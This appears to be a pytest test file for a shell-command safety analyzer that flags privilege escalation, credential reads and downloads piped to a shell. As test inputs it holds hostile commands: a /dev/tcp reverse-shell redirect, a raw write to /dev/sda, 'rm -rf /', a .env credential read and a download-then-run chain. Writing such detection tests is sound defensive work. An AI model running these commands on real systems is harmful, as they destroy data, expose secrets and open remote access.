"""The analyzer's processors: a configured sequence, each adding one concern's facts."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tether.core.safety import processors
from tether.core.safety.analyzer import CommandAnalyzer, PathAnalyzer
from tether.core.safety.command_sequence import ListedArguments, runs_downloads
from tether.core.safety.programs import Findings
from tether.core.safety.shell import ShellParser, SimpleCommand

P = pytest.param


def _command(shell_parser: ShellParser, text: str) -> SimpleCommand:
    return shell_parser.parse(text).commands[-1]


def _run(processor: processors.Processor, command: SimpleCommand) -> Findings:
    findings = Findings(command)
    processor(findings)
    return findings


class TestSequence:
    def test_program_knowledge_enters_through_one_processor(
        self, command_analyzer: CommandAnalyzer
    ) -> None:
        """The handlers are called from one place, so replacing them is an import change."""
        sequence = command_analyzer.processors
        assert sequence.count(processors.program_handler) == 1
        assert sequence.index(processors.program_facts) < sequence.index(processors.program_handler)
        assert sequence[-1] is processors.default_subcommand

    def test_the_analyzer_runs_its_configured_sequence_in_order(
        self, shell_parser: ShellParser
    ) -> None:
        seen: list[str] = []

        def first(f: Findings) -> None:
            seen.append("first")
            f.fact("network", "first says so")

        def second(f: Findings) -> None:
            seen.append("second" if f.has("network") else "second-alone")

        analyzer = CommandAnalyzer(shell_parser, PathAnalyzer(), processors=(first, second))
        analysis = analyzer.analyze(_command(shell_parser, "ls"))
        assert seen == ["first", "second"]
        assert [f.kind for f in analysis.facts] == ["network"]

    def test_an_added_processor_sees_the_default_facts(self, shell_parser: ShellParser) -> None:
        paths = PathAnalyzer()
        base = CommandAnalyzer(shell_parser, paths).processors

        def audit(f: Findings) -> None:
            if f.has("recursive_delete"):
                f.fact("unvetted", "seen after the defaults")

        analyzer = CommandAnalyzer(shell_parser, paths, processors=(*base, audit))
        kinds = {f.kind for f in analyzer.analyze(_command(shell_parser, "rm -rf src")).facts}
        assert {"recursive_delete", "unvetted"} <= kinds

    def test_an_empty_sequence_finds_nothing(self, shell_parser: ShellParser) -> None:
        analyzer = CommandAnalyzer(shell_parser, PathAnalyzer(), processors=(), passes=())
        assert analyzer.analyze(_command(shell_parser, "rm -rf /")).facts == ()


class TestProcessors:
    @pytest.mark.parametrize(
        ("text", "kind"),
        [
            P("sudo ls", "privilege_escalation", id="sudo"),
            P("doas ls", "privilege_escalation", id="doas"),
            P("$(echo rm) x", "dynamic_command", id="dynamic"),
            P("./tool.sh", "run_script", id="program-file"),
        ],
    )
    def test_program_facts(self, shell_parser: ShellParser, text: str, kind: str) -> None:
        assert _run(processors.program_facts, _command(shell_parser, text)).has(kind)

    @pytest.mark.parametrize(
        ("text", "kind"),
        [
            P("cat < /dev/tcp/10.0.0.1/80", "reverse_shell", id="dev-tcp"),
            P("echo x > out.txt", "file_write", id="write"),
            P("echo x > /dev/sda", "disk_destruction", id="disk"),
        ],
    )
    def test_redirects(self, shell_parser: ShellParser, text: str, kind: str) -> None:
        assert _run(processors.redirects, _command(shell_parser, text)).has(kind)

    def test_harmless_devices_are_not_paths(self, shell_parser: ShellParser) -> None:
        found = _run(processors.redirects, _command(shell_parser, "ls 2>/dev/null >/dev/stdout"))
        assert found.paths == [] and found.facts == []

    def test_version_query_only_acts_on_a_lone_version_word(
        self, shell_parser: ShellParser
    ) -> None:
        found = Findings(_command(shell_parser, "curl -o x https://example.com"))
        found.fact("network")
        processors.version_query(found)
        assert found.has("network")

    def test_generic_paths_leave_described_programs_alone(self, shell_parser: ShellParser) -> None:
        found = Findings(_command(shell_parser, "frobnicate a b"))
        processors.generic_paths(found)
        assert [u.path for u in found.paths] == ["a", "b"]
        described = Findings(_command(shell_parser, "frobnicate a b"))
        described.handled_paths = True
        processors.generic_paths(described)
        assert described.paths == []

    def test_wrapper_paths(self, shell_parser: ShellParser) -> None:
        found = _run(processors.wrapper_paths, _command(shell_parser, "env -C /tmp ls"))
        assert [(u.path, u.access) for u in found.paths] == [("/tmp", "cd")]

    def test_credential_paths_read_what_earlier_steps_named(
        self, shell_parser: ShellParser
    ) -> None:
        found = Findings(_command(shell_parser, "cat .env"))
        processors.CredentialPaths(PathAnalyzer())(found)
        assert not found.has("credential_access")  # no step named the path yet
        found.arg(0, "read")
        processors.CredentialPaths(PathAnalyzer())(found)
        assert found.has("credential_access")

    def test_default_subcommand_keeps_what_a_step_named(self, shell_parser: ShellParser) -> None:
        found = Findings(_command(shell_parser, "tool -v run fast now later"))
        processors.default_subcommand(found)
        assert found.subcommand == ("run", "fast", "now")
        found.subcommand = ("x",)
        processors.default_subcommand(found)
        assert found.subcommand == ("x",)

    @settings(max_examples=300, deadline=None)
    @given(args=st.lists(st.sampled_from(["-v", "--x=1", "-", "run", "a", "", "b c"]), max_size=8))
    def test_default_subcommand_is_the_first_three_words_that_are_no_options(
        self, args: list[str]
    ) -> None:
        found = Findings(SimpleCommand(program="tool", args=tuple(args)))
        processors.default_subcommand(found)
        assert found.subcommand == tuple([a for a in args if not a.startswith("-")][:3])


class TestPasses:
    def test_listed_arguments_name_the_credential_in_the_listing(
        self, shell_parser: ShellParser, command_analyzer: CommandAnalyzer
    ) -> None:
        script = shell_parser.parse("find . -name .env | xargs cat")
        analyses = [command_analyzer.analyze(c) for c in script.commands]
        passed = ListedArguments(PathAnalyzer())(analyses)
        assert "credential_access" in {f.kind for f in passed[-1].facts}

    def test_running_a_download_is_piping_it_to_a_shell(
        self, shell_parser: ShellParser, command_analyzer: CommandAnalyzer
    ) -> None:
        script = shell_parser.parse("curl -o x.sh https://example.com/x.sh && sh x.sh")
        analyses = [command_analyzer.analyze(c) for c in script.commands]
        assert "pipe_to_shell" not in {f.kind for f in analyses[-1].facts}
        passed = runs_downloads(analyses)
        assert "pipe_to_shell" in {f.kind for f in passed[-1].facts}
